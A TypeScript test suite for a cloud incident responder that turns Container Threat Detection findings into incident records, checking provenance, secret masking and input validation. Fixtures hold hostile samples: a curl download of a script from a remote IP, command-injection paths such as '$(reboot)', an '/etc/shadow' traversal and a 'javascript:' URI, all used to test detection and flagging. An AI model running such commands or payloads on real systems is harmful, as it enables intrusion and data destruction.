import { validateBinaryPath } from '../../shared/evidence/path.js';
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { decodeMessage } from '../../shared/finding/decode.js';
import { toIncident } from '../../shared/finding/incident.js';
import type { Incident } from '../../shared/finding/types.js';
import { isGkeFinding, MODIFIED_MALICIOUS_BINARY_EXECUTED } from '../../shared/finding/categories.js';
import { locationKind, parseClusterResourceName, parseInstanceResourceName } from '../../shared/finding/resource-names.js';
import { fixture, fixtureText, SECRET, v1, type NotificationLike } from './finding-helpers.js';

function incidentOf(input: unknown): Incident {
  const d = decodeMessage(input);
  assert.equal(d.ok, true, d.ok ? '' : d.error.message);
  if (!d.ok) throw new Error('unreachable');
  const r = toIncident(d.message);
  assert.equal(r.ok, true, r.ok ? '' : r.error.message);
  if (!r.ok) throw new Error('unreachable');
  return r.incident;
}

const SHA = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';
const NODE = 'gke-payments-default-pool-1a2b3c4d-x7k9';
const POD = 'checkout-7d9f8b6c5d-q2x8z';
const IMAGE = 'us-docker.pkg.dev/acme-payments-prod/apps/checkout:2.14.1';
const CLUSTER = '//container.googleapis.com/projects/acme-payments-prod/locations/us-central1/clusters/payments';

/** Every step-1 field of the playbook plus what later steps need, common to the fixtures. */
function assertStepOneFields(i: Incident, binaryPath: string): void {
  assert.equal(i.binary?.path, binaryPath);
  assert.deepEqual(i.args, ['/usr/bin/curl', '-s', 'http://203.0.113.50/x.sh', '-o', '/tmp/x']);
  assert.equal(i.container, 'checkout');
  assert.equal(i.imageUri, IMAGE);
  assert.equal(i.resourceName, CLUSTER);
  assert.equal(i.node, NODE);
  assert.equal(i.projectId, 'acme-payments-prod');
  assert.equal(i.projectNumber, '845127364901');
  assert.deepEqual(i.cluster, { project: 'acme-payments-prod', location: 'us-central1', locationKind: 'region', name: 'payments', resourceName: CLUSTER });
  assert.equal(i.namespace, 'payments');
  assert.equal(i.pod, POD);
  assert.deepEqual(i.podLabels, { app: 'checkout', 'pod-template-hash': '7d9f8b6c5d' });
  assert.equal(i.binary?.sha256, SHA);
  assert.equal(i.binary?.size, 265856);
  assert.equal(i.binary?.hashedSize, 265856);
  assert.equal(i.binary?.partiallyHashed, false);
  assert.equal(i.binary?.pathProblem, undefined);
  assert.equal(i.eventTime, '2026-11-27T09:14:02.113Z');
  assert.equal(i.createTime, '2026-11-27T09:14:05.872Z');
  assert.equal(i.pid, '48211');
  assert.equal(i.nodeZone, 'us-central1-b');
  assert.equal(i.nodeResourceName, `//compute.googleapis.com/projects/acme-payments-prod/zones/us-central1-b/instances/${NODE}`);
  assert.equal(i.imageId, 'sha256:4b1e8f0c2a7d6e5f4c3b2a19080706050403020100f0e0d0c0b0a09080706050');
  assert.deepEqual(i.mitre, {
    tactic: 'EXECUTION',
    tacticId: 'TA0002',
    tacticUrl: 'https://attack.mitre.org/tactics/TA0002/',
    version: '15.1',
    techniques: [
      { name: 'INGRESS_TOOL_TRANSFER', id: 'T1105', url: 'https://attack.mitre.org/techniques/T1105/' },
      { name: 'NATIVE_API', id: 'T1106', url: 'https://attack.mitre.org/techniques/T1106/' },
    ],
  });
  assert.deepEqual(i.envVariables, [
    { name: 'PATH', val: '[REDACTED]' },
    { name: 'STRIPE_API_KEY', val: '[REDACTED]' },
    { name: 'HOSTNAME', val: '[REDACTED]' },
  ]);
  assert.equal(i.state, 'ACTIVE');
  assert.equal(i.findingClass, 'THREAT');
  assert.equal(i.sourceDisplayName, 'Container Threat Detection');
  assert.deepEqual(i.securityMarks, {});
  assert.deepEqual(i.problems, []);
  // Structured fields win: their provenance is the structured path.
  assert.equal(i.provenance['binary.path'], 'finding.processes[0].binary.path');
  assert.equal(i.provenance['container'], 'finding.containers[0].name');
  assert.equal(i.provenance['imageUri'], 'finding.containers[0].uri');
  assert.equal(i.provenance['pod'], 'finding.kubernetes.pods[0].name');
  assert.equal(i.provenance['namespace'], 'finding.kubernetes.pods[0].ns');
  assert.equal(i.provenance['node'], 'finding.kubernetes.nodes[0].name');
  assert.equal(i.provenance['projectId'], 'resource.projectDisplayName');
  assert.equal(i.provenance['projectNumber'], 'resource.project');
  assert.equal(i.provenance['binary.sha256'], 'finding.processes[0].binary.sha256');
  assert.equal(i.provenance['args'], 'finding.processes[0].args');
  assert.ok(!JSON.stringify(i).includes(SECRET), 'the planted secret is nowhere in the incident');
}

describe('toIncident on the fixtures', () => {
  test('v1 (modified malicious binary, via its CloudEvent)', () => {
    const i = incidentOf(fixtureText('cloudevent.modified-malicious-binary.v1.json'));
    assertStepOneFields(i, '/usr/bin/curl');
    assert.equal(i.apiVersion, 'v1');
    assert.equal(i.category, MODIFIED_MALICIOUS_BINARY_EXECUTED);
    assert.equal(i.severity, 'CRITICAL');
    assert.equal(i.findingId, 'a6e3b2c9f0d14e8f9b7c5a4d3e2f1a0b');
    assert.equal(i.findingName, 'organizations/123456789012/sources/7153827493721873246/findings/a6e3b2c9f0d14e8f9b7c5a4d3e2f1a0b');
    assert.equal(i.notificationConfigName, 'organizations/123456789012/notificationConfigs/ctd-responder');
    assert.equal(i.virusTotalUrl, `https://www.virustotal.com/gui/file/${SHA}`);
    assert.equal(i.provenance['virusTotalUrl'], 'finding.indicator.uris[0]');
    assert.equal(i.securityMarksName, 'organizations/123456789012/sources/7153827493721873246/findings/a6e3b2c9f0d14e8f9b7c5a4d3e2f1a0b/securityMarks');
  });

  test('v2 (locations/global names, no indicator: VirusTotal link built from the SHA-256)', () => {
    const i = incidentOf(fixtureText('modified-malicious-binary.v2.json'));
    assertStepOneFields(i, '/usr/bin/curl');
    assert.equal(i.apiVersion, 'v2');
    assert.equal(i.findingId, 'a6e3b2c9f0d14e8f9b7c5a4d3e2f1a0b');
    assert.equal(i.virusTotalUrl, `https://www.virustotal.com/gui/file/${SHA}`);
    assert.equal(i.provenance['virusTotalUrl'], 'derived:finding.processes[0].binary.sha256');
  });

  test('added binary executed (another category, HIGH)', () => {
    const i = incidentOf(fixtureText('added-binary-executed.v1.json'));
    assertStepOneFields(i, '/tmp/x');
    assert.equal(i.category, 'Added Binary Executed');
    assert.equal(i.severity, 'HIGH');
    assert.equal(i.findingId, '0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f');
  });

  test('sourceProperties-only variant: every fallback used and recorded', () => {
    const n = v1();
    delete (n.finding as Partial<NotificationLike['finding']>).processes;
    delete (n.finding as Partial<NotificationLike['finding']>).containers;
    delete (n.finding as Partial<NotificationLike['finding']>).kubernetes;
    delete (n.finding as Partial<NotificationLike['finding']>).indicator;
    const i = incidentOf(n);
    assert.equal(i.binary?.path, '/usr/bin/curl');
    assert.equal(i.pod, POD);
    assert.equal(i.namespace, 'payments');
    assert.equal(i.container, 'checkout');
    assert.equal(i.imageUri, IMAGE);
    assert.equal(i.node, NODE);
    assert.equal(i.nodeZone, undefined, 'a bare VM name has no zone');
    assert.deepEqual(i.podLabels, {});
    assert.deepEqual(i.args, []);
    assert.equal(i.binary?.sha256, undefined);
    assert.equal(i.virusTotalUrl, undefined, 'no hash, no indicator: no link');
    assert.equal(i.provenance['binary.path'], 'finding.sourceProperties.Process_Binary_Fullpath');
    assert.equal(i.provenance['pod'], 'finding.sourceProperties.Pod_Name');
    assert.equal(i.provenance['namespace'], 'finding.sourceProperties.Pod_Namespace');
    assert.equal(i.provenance['container'], 'finding.sourceProperties.Container_Name');
    assert.equal(i.provenance['imageUri'], 'finding.sourceProperties.Container_Image_Uri');
    assert.equal(i.provenance['node'], 'finding.sourceProperties.VM_Instance_Name');
  });

  test('structured-only variant: no sourceProperties needed', () => {
    const n = v1();
    delete (n.finding as Partial<NotificationLike['finding']>).sourceProperties;
    const i = incidentOf(n);
    assertStepOneFields(i, '/usr/bin/curl');
  });

  test('structured and sourceProperties disagree: structured wins, the conflict is recorded', () => {
    const n = v1();
    n.finding.sourceProperties['Pod_Name'] = 'other-pod';
    n.finding.sourceProperties['Process_Binary_Fullpath'] = '/bin/other';
    const i = incidentOf(n);
    assert.equal(i.pod, POD);
    assert.equal(i.binary?.path, '/usr/bin/curl');
    const conflicts = (i.problems ?? []).filter((p) => p.kind === 'conflict').map((p) => p.field).sort();
    assert.deepEqual(conflicts, ['binary.path', 'pod']);
    assert.match(i.problems?.find((p) => p.field === 'pod')?.message ?? '', /sourceProperties\.Pod_Name is "other-pod"; using finding\.kubernetes\.pods\[0\]\.name/);
  });

  test('a pod with a single container names it when finding.containers is absent', () => {
    const n = v1();
    delete (n.finding as Partial<NotificationLike['finding']>).containers;
    delete n.finding.sourceProperties['Container_Name'];
    const i = incidentOf(n);
    assert.equal(i.container, 'checkout');
    assert.equal(i.provenance['container'], 'finding.kubernetes.pods[0].containers[0].name');
  });

  test('node from nodePools when nodes is absent', () => {
    const n = v1();
    n.finding.kubernetes.nodes = [];
    const i = incidentOf(n);
    assert.equal(i.node, NODE);
    assert.equal(i.provenance['node'], 'finding.kubernetes.nodePools[0].nodes[0].name');
  });
});

describe('toIncident field derivations', () => {
  test('zonal cluster (zones/ or a three-part location) is a zone', () => {
    const n = v1();
    n.finding['resourceName'] = '//container.googleapis.com/projects/p1/zones/europe-west1-c/clusters/c1';
    const i = incidentOf(n);
    assert.equal(i.cluster?.locationKind, 'zone');
    assert.equal(i.cluster?.location, 'europe-west1-c');
    assert.equal(locationKind('us-central1-b'), 'zone');
    assert.equal(locationKind('us-central1'), 'region');
    assert.equal(parseClusterResourceName('//container.googleapis.com/projects/p/locations/us-east4-a/clusters/x')?.locationKind, 'zone');
  });

  test('Cloud Run resource: cluster null, not a GKE finding, project from the name', () => {
    const n = v1();
    n.finding['resourceName'] = '//run.googleapis.com/projects/run-proj/locations/us-central1/services/api';
    delete (n as Partial<NotificationLike>).resource;
    const i = incidentOf(n);
    assert.equal(i.cluster, null);
    assert.equal(isGkeFinding(i), false);
    assert.equal(i.projectId, 'run-proj');
    assert.equal(i.projectNumber, '845127364901', 'from canonicalName');
    assert.equal(i.provenance['projectNumber'], 'derived:finding.canonicalName');
  });

  test('cluster names are parsed anchored', () => {
    assert.equal(parseClusterResourceName('x//container.googleapis.com/projects/p/locations/l/clusters/c'), null);
    assert.equal(parseClusterResourceName('//container.googleapis.com/projects/p/locations/l/clusters/'), null);
    assert.equal(parseClusterResourceName('//container.googleapis.com/projects/p/regions/l/clusters/c'), null);
    assert.equal(parseClusterResourceName('//container.googleapis.com/projects/p/locations/l/clusters/c/k8s/namespaces/n')?.name, 'c');
    assert.deepEqual(parseInstanceResourceName('//compute.googleapis.com/projects/p/zones/z-a-b/instances/i'), { project: 'p', zone: 'z-a-b', name: 'i' });
    assert.equal(parseInstanceResourceName('//compute.googleapis.com/projects/p/zones/z/instances/i/x'), null);
  });

  test('partially hashed binaries: explicit flag or hashedSize < size', () => {
    const a = v1();
    a.finding.processes[0]!.binary['hashedSize'] = '1048576';
    a.finding.processes[0]!.binary['size'] = '9000000';
    const ia = incidentOf(a);
    assert.equal(ia.binary?.partiallyHashed, true);
    assert.equal(ia.binary?.hashedSize, 1048576);
    assert.equal(ia.provenance['binary.partiallyHashed'], 'derived:finding.processes[0].binary.hashedSize<size');
    const b = v1();
    b.finding.processes[0]!.binary['partiallyHashed'] = true;
    assert.equal(incidentOf(b).binary?.partiallyHashed, true);
  });

  test('SHA-256 is normalised to lower case; a malformed one is dropped with a problem', () => {
    const a = v1();
    a.finding.processes[0]!.binary['sha256'] = SHA.toUpperCase();
    delete a.finding.indicator;
    assert.equal(incidentOf(a).binary?.sha256, SHA);
    const b = v1();
    b.finding.processes[0]!.binary['sha256'] = 'zz';
    delete b.finding.indicator;
    const ib = incidentOf(b);
    assert.equal(ib.binary?.sha256, undefined);
    assert.equal(ib.virusTotalUrl, undefined);
    assert.equal(ib.problems?.[0]?.field, 'binary.sha256');
  });

  test('an indicator URI is a VirusTotal link only when it is https://www.virustotal.com', () => {
    const n = v1();
    n.finding.indicator = { uris: ['javascript:alert(1)', 'https://evil.example/gui/file/x', 'http://www.virustotal.com/x'] };
    const i = incidentOf(n);
    assert.equal(i.virusTotalUrl, `https://www.virustotal.com/gui/file/${SHA}`);
    assert.equal(i.provenance['virusTotalUrl'], 'derived:finding.processes[0].binary.sha256');
  });

  test('MITRE: additional techniques, sub-technique URLs, unknown names kept without id', () => {
    const n = v1();
    n.finding.mitreAttack = { primaryTactic: 'NEW_TACTIC', primaryTechniques: ['UNIX_SHELL', 'UNIX_SHELL'], additionalTechniques: ['COMMAND_AND_SCRIPTING_INTERPRETER', 'SOMETHING_NEW'] };
    const i = incidentOf(n);
    assert.deepEqual(i.mitre, {
      tactic: 'NEW_TACTIC',
      techniques: [
        { name: 'UNIX_SHELL', id: 'T1059.004', url: 'https://attack.mitre.org/techniques/T1059/004/' },
        { name: 'COMMAND_AND_SCRIPTING_INTERPRETER', id: 'T1059', url: 'https://attack.mitre.org/techniques/T1059/' },
        { name: 'SOMETHING_NEW' },
      ],
    });
  });

  test('severity defaults to SEVERITY_UNSPECIFIED, security marks are read', () => {
    const n = v1();
    delete n.finding['severity'];
    n.finding['securityMarks'] = { name: 'x/securityMarks', marks: { 'scc-responder': 'would-delete' } };
    const i = incidentOf(n);
    assert.equal(i.severity, 'SEVERITY_UNSPECIFIED');
    assert.equal(i.provenance['severity'], 'default');
    assert.deepEqual(i.securityMarks, { 'scc-responder': 'would-delete' });
  });

  test('secret formats in arguments are masked, the rest of the argument kept', () => {
    const n = v1();
    n.finding.processes[0]!.args = ['/usr/bin/curl', '-H', 'Authorization: Bearer abcdefghijklmnop', `--token=${SECRET}`, 'https://u:hunter2@example.com/'];
    const i = incidentOf(n);
    assert.deepEqual(i.args, ['/usr/bin/curl', '-H', 'Authorization: Bearer [REDACTED]', '--token=[REDACTED]', 'https://u:[REDACTED]@example.com/']);
  });

  test('hostile binary paths are kept as data and flagged', () => {
    const cases: [string, string | undefined][] = [
      ['/tmp/$(reboot);x', undefined],
      ['/tmp/a\u0000b', 'contains a NUL byte'],
      ['tmp/x', 'is not absolute'],
      ['/tmp/../../etc/shadow', "contains a '..' segment"],
      [`/${'a'.repeat(5000)}`, 'is longer than 4096 bytes'],
      // One validation for the Incident and the evidence path check (shared/finding/binary-path.ts).
      ['/tmp/evil\nname', 'contains a line break'],
      ['/tmp/evil\rname', 'contains a line break'],
      ['/usr/bin/', 'names a directory'],
    ];
    for (const [path, problem] of cases) {
      const n = v1();
      n.finding.processes[0]!.binary['path'] = path;
      n.finding.sourceProperties['Process_Binary_Fullpath'] = path;
      const i = incidentOf(n);
      assert.equal(i.binary?.path, path);
      assert.equal(i.binary?.pathProblem, problem, path);
      const flagged = (i.problems ?? []).some((p) => p.field === 'binary.path' && p.kind === 'invalid');
      assert.equal(flagged, problem !== undefined, path);
      const evidence = validateBinaryPath(path);
      assert.equal(evidence.ok, problem === undefined, `the evidence check agrees on ${JSON.stringify(path)}`);
    }
  });

  test('names Kubernetes would reject are flagged (pod, namespace, container, node)', () => {
    const n = v1();
    n.finding.kubernetes.pods[0]!['name'] = 'x;$(reboot)';
    n.finding.kubernetes.pods[0]!['ns'] = 'Payments';
    n.finding.containers[0]!['name'] = 'a'.repeat(64);
    n.finding.sourceProperties = {};
    n.finding.kubernetes.nodes = [{ name: 'bad node' }];
    n.finding.kubernetes.nodePools = [];
    const i = incidentOf(n);
    const fields = (i.problems ?? []).filter((p) => p.kind === 'invalid').map((p) => p.field).sort();
    assert.deepEqual(fields, ['container', 'namespace', 'node', 'pod']);
  });

  test('toIncident validates a bare object itself and never throws', () => {
    const r = toIncident({ finding: { category: 'x' } });
    assert.equal(r.ok, false);
    if (!r.ok) {
      assert.equal(r.error.code, 'bad-shape');
      assert.match(r.error.message, /^finding\.name: required/);
    }
    const ok = toIncident(fixture('modified-malicious-binary.v1.json'));
    assert.equal(ok.ok, true);
    const hostile = toIncident({ get finding(): never { throw new Error('x'); } });
    assert.equal(hostile.ok, false);
    if (!hostile.ok) assert.equal(hostile.error.code, 'internal');
  });

  test('provenance names an origin for every field that is set', () => {
    const i = incidentOf(fixtureText('modified-malicious-binary.v1.json'));
    for (const field of ['findingName', 'category', 'state', 'severity', 'eventTime', 'resourceName', 'cluster', 'projectId', 'projectNumber', 'namespace', 'pod', 'podLabels', 'container', 'imageUri', 'imageId', 'node', 'nodeZone', 'nodeResourceName', 'binary.path', 'binary.sha256', 'binary.size', 'binary.hashedSize', 'args', 'pid', 'virusTotalUrl', 'mitre', 'envVariables']) {
      assert.ok(i.provenance[field], `provenance for ${field}`);
    }
  });
});
